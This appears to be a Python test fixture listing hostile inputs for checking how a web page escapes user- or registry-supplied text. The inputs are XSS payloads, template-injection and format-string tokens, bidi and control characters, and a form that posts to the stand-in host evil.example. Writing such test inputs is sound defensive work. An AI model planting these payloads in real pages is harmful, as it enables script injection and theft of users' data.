"""Words that somebody might put where a user or a registry decides what stands there."""

HOSTILE = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)",
    "</title></textarea></pre><svg onload=alert(1)>",
    "javascript:alert(1)",
    "{{ 7*7 }}{% raw %}{{ visit.doors }}",
    "<!--", "]]>", "</script><script>", "&lt;b&gt;&amp;&#x27;",
    "\u202eevil\u202c \u2066x\u2069", "\u0000\u0001\u001b[31m", "\ud7ff\ufffd\u2028\u2029",
    "a" * 3000, "中" * 1000, "👩\u200d👩\u200d👧" * 100, "%(num)d %s %n {0} ${x}",
    "data-key=\"x\" hx-get=\"/console/\"",
    "<template data-count></template>", "<form action=//evil.example method=post>",
)  # fmt: skip
JOINED = " ".join(HOSTILE)
"""All at once, so that a page is read once: each is between others that would break out."""
